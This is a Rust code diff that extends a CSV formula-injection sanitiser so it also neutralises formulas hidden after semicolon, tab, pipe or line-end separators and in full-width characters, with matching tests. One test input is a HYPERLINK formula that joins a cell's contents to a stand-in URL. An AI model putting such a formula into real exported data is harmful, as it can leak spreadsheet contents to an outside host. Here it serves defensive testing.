@@ -33,9 +33,27 @@ pub(crate) fn escaped_json(json: &str) -> String {
     escaped
 }
 
-/// A cell of a CSV that no spreadsheet takes for a formula: OWASP, "CSV Injection", names what one begins with.
+/// What a spreadsheet may take for the end of a cell that stands in quotes, since it parts cells by something else than the comma that
+/// this file has: where numbers have decimal commas, Excel parts by semicolons.
+const ENDS_CELL: [char; 5] = [';', '\t', '|', '\r', '\n'];
+
+/// A cell of a CSV that no spreadsheet takes for a formula, nor for several cells of which one is: an apostrophe stands before what begins
+/// like one. OWASP, "CSV Injection", names what that is.
 pub(crate) fn no_formula(cell: &str) -> String {
-    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{cell}") } else { cell.to_owned() }
+    let mut text = String::with_capacity(cell.len() + 1);
+    // A tab or a line end in front may be left out, too.
+    if cell.starts_with(['\t', '\r']) {
+        text.push('\'');
+    }
+    for part in cell.split_inclusive(ENDS_CELL) {
+        // A quote would begin a cell of its own there, and blanks may be left out.
+        let first = part.trim_start_matches(|c: char| c == '"' || c.is_whitespace());
+        if first.starts_with(['=', '+', '-', '@', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}']) {
+            text.push('\'');
+        }
+        text.push_str(part);
+    }
+    text
 }
 
 /// Unicode's format characters (category Cf), line and paragraph separators, controls, and what fills no space.
@@ -79,10 +97,26 @@ mod tests {
 
     #[test]
     fn what_begins_like_a_formula_is_a_text() {
-        for cell in ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"] {
+        for cell in ["=1+1", "+1", "-1", "@SUM(A1)"] {
             assert_eq!(no_formula(cell), format!("'{cell}"));
         }
-        assert_eq!(no_formula("a=1"), "a=1");
-        assert_eq!(no_formula(""), "");
+        for cell in ["", "a=1", "Smith, Ann - Sydney; Perth", "a|b;c", "give -AppId, -ObjectId"] {
+            assert_eq!(no_formula(cell), cell);
+        }
+    }
+
+    #[test]
+    fn what_would_be_a_cell_of_its_own_elsewhere_is_a_text_too() {
+        for (cell, text) in [
+            ("x;=HYPERLINK(\"http://a\"&A1)", "x;'=HYPERLINK(\"http://a\"&A1)"),
+            ("x; \"=1", "x;' \"=1"),
+            ("a|+1|b\n@SUM(A1)", "a|'+1|b\n'@SUM(A1)"),
+            (" =1", "' =1"),
+            ("\t=1", "'\t'=1"),
+            ("\r1", "'\r1"),
+            ("\u{ff1d}1;\u{ff20}x", "'\u{ff1d}1;'\u{ff20}x"),
+        ] {
+            assert_eq!(no_formula(cell), text);
+        }
     }
 }
